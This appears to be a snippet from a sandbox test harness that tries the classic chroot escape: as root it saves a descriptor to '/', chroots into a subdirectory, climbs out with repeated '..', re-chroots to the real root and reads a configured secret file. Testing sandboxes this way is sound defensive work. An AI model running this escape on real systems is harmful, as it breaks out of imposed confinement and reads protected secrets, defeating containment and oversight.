# Root with CAP_SYS_CHROOT leaves a plain chroot by making another one beneath the directory it holds.
def chroot_below_and_climb():
    os.makedirs("/tmp/below", exist_ok=True)
    above = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/below")
    os.fchdir(above)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return read(setting("SECRET_FILE"))


attempt(chroot_below_and_climb)
